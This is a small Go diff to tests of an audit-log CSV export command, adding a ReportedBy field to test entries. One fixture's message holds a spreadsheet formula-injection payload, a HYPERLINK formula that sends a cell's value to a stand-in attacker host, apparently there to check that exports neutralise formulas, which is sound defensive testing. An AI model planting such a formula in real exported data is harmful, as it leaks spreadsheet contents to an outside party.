@@ -448,7 +448,7 @@ func TestAuditExportCSVIsWhatASpreadsheetExpects(t *testing.T) {
 	tr := newTrail(t, boltBackend)
 	st := tr.open(t)
 	record(t, st, trailDay, 0, 3)
-	must(t, st.AppendAudit(context.Background(), store.AuditEntry{Action: store.AuditToolRan, SessionID: "sess-a", Tool: "Bash",
+	must(t, st.AppendAudit(context.Background(), store.AuditEntry{Action: store.AuditToolRan, SessionID: "sess-a", Tool: "Bash", ReportedBy: "api:laptop",
 		Result: store.ToolSucceeded, Message: `=HYPERLINK("https://evil.example/?"&A1,"ok")`, At: trailDay.Add(5 * time.Hour)}))
 	must(t, st.Close())
 	out, err := runProgram(t, tr.env, "audit", "export", "-format", "csv", "-slack-url", "https://acme.slack.com/", "-channel", "C1")
@@ -574,7 +574,7 @@ func TestAuditExportSaysHowFarItIsOnStderr(t *testing.T) {
 		if i == progressEvery {
 			tool = "Write"
 		}
-		must(t, st.AppendAudit(ctx, store.AuditEntry{Action: store.AuditToolRan, SessionID: "s", Tool: tool, Result: store.ToolSucceeded}))
+		must(t, st.AppendAudit(ctx, store.AuditEntry{Action: store.AuditToolRan, SessionID: "s", Tool: tool, ReportedBy: "api:laptop", Result: store.ToolSucceeded}))
 	}
 	must(t, st.Close())
 	var stdout, stderr strings.Builder
